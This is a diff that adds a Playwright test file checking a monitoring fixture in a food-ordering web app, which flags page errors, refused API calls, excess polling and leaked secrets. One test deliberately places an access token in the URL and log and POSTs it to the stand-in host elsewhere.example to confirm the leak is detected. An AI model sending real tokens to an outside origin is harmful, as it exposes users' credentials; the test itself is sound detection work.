@@ -1,0 +1,92 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '../support/fixtures.ts';
+import { NO_PORTAL } from '../support/signIn.ts';
+
+const WAITING = '/api/food-order/get-waiting-order';
+
+/** Calls the list of new orders from a page without a portal. */
+async function callOften(page: Page, times: number) {
+  await page.evaluate(
+    ([url, count]) => Promise.all(Array.from({ length: count }, () => fetch(url))),
+    [WAITING, times] as const,
+  );
+}
+
+test.beforeEach(({ page }) => page.goto(NO_PORTAL));
+
+test('an uncaught error, a rejection and a console.error of any page are found', async ({
+  page,
+  context,
+  recorder,
+}) => {
+  await page.evaluate(() => {
+    setTimeout(() => {
+      throw new Error('thrown');
+    });
+    void Promise.reject(new Error('rejected'));
+    return new Promise((resolve) => setTimeout(resolve, 20));
+  });
+  const other = await context.newPage();
+  await other.evaluate(() => globalThis.console.error('logged'));
+  expect(await recorder.findings()).toEqual([
+    expect.stringMatching(/^uncaught: Error: rejected/),
+    expect.stringMatching(/^uncaught: Error: thrown/),
+    expect.stringMatching(/^console.error: logged/),
+  ]);
+});
+
+test('a refused call is found, and not if the test caused its fault', async ({
+  page,
+  recorder,
+  sandbox,
+}) => {
+  await callOften(page, 1);
+  expect(await recorder.findings()).toEqual([
+    expect.stringMatching(/status of 401.*waiting-order/),
+  ]);
+  const fault = await sandbox.fault({ endpoint: 'waitingOrders', status: 500, phone: '0' });
+  await callOften(page, 1);
+  await sandbox.clearFault(fault.id);
+  await page.route('**/gone', (route) => route.abort());
+  await page.evaluate(() => fetch('/gone').catch(() => {}));
+  expect(await recorder.findings()).toEqual([]);
+});
+
+test('a token in a URL, in the log and on its way to another origin is found', async ({
+  page,
+  newVendor,
+  sandbox,
+  recorder,
+}) => {
+  const { access_token } = await sandbox.token((await newVendor()).phone);
+  await page.route('https://elsewhere.example/**', (route) =>
+    route.fulfill({ headers: { 'access-control-allow-origin': '*' } }),
+  );
+  await page.evaluate(async (token) => {
+    history.pushState(null, '', `#${token}`);
+    globalThis.console.debug({ token });
+    await fetch('https://elsewhere.example/', { method: 'POST', body: token });
+  }, access_token);
+  expect(await recorder.findings()).toEqual([
+    expect.stringMatching(/^a secret in the URL/),
+    expect.stringMatching(/^a secret in the log/),
+    'a secret was sent to https://elsewhere.example/',
+  ]);
+});
+
+test('a sixth call within 10 seconds of the page is found, and none after its clock has moved on', async ({
+  page,
+  recorder,
+}) => {
+  await page.clock.install();
+  await page.goto(NO_PORTAL);
+  await recorder.findings();
+  recorder.expectError(/401.*waiting-order/);
+  await callOften(page, 4);
+  await page.clock.fastForward(10_000);
+  await callOften(page, 4);
+  expect(await recorder.findings()).toEqual([]);
+  recorder.expectError(/401.*waiting-order/);
+  await callOften(page, 6);
+  expect(await recorder.findings()).toEqual([expect.stringMatching(/^waitingOrders was called 6/)]);
+});
